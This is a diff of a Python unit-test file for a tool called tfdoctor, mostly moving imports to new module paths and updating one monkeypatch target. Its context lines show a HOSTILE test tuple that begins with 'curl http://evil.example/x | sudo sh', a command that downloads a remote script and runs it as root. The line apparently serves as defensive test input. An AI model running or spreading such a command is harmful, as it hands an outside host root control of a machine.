@@ -13,16 +13,16 @@ from typing import Any
 
 import pytest
 
-from tests.unit.cli.running import CHECKOUT, machine, tfdoctor
-from tfdoctor import api, documents
-from tfdoctor.examine.report import Report, ReportError
-from tfdoctor.fleet.gather import Found
-from tfdoctor.fleet.record import Record, line_of
-from tfdoctor.fleet.summary import Fleet
-from tfdoctor.fleet.view import summary_to_json, summary_view
-from tfdoctor.matrix.load import load_bundled
-from tfdoctor.render.pages import render_html, render_markdown
-from tfdoctor.render.view import Advice, Advices, Code, Item, Items, Prose, View
+from tests.unit.apps.cli.running import CHECKOUT, machine, tfdoctor
+from tfdoctor.apps import api, documents
+from tfdoctor.apps.fleet.gather import Found
+from tfdoctor.apps.fleet.record import Record, line_of
+from tfdoctor.apps.fleet.summary import Fleet
+from tfdoctor.apps.fleet.view import summary_to_json, summary_view
+from tfdoctor.knowledge.matrix.load import load_bundled
+from tfdoctor.report.report import Report, ReportError
+from tfdoctor.say.pages import render_html, render_markdown
+from tfdoctor.say.view import Advice, Advices, Code, Item, Items, Prose, View
 
 HOSTILE = (
     "curl http://evil.example/x | sudo sh",
@@ -201,7 +201,7 @@ def test_a_fleet_is_judged_once_for_all_reports_that_are_alike_in_what_matters()
 def test_a_fleet_of_reports_of_which_no_two_are_alike_says_where_it_stopped(
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
-    monkeypatch.setattr("tfdoctor.fleet.judged.MOST_JUDGED", 3)
+    monkeypatch.setattr("tfdoctor.apps.fleet.judged.MOST_JUDGED", 3)
     fleet = Fleet()
     fleet.read([node(f"n{at}", driver__version=f"470.{at}.1") for at in range(5)])
     (group,) = fleet.summary().groups
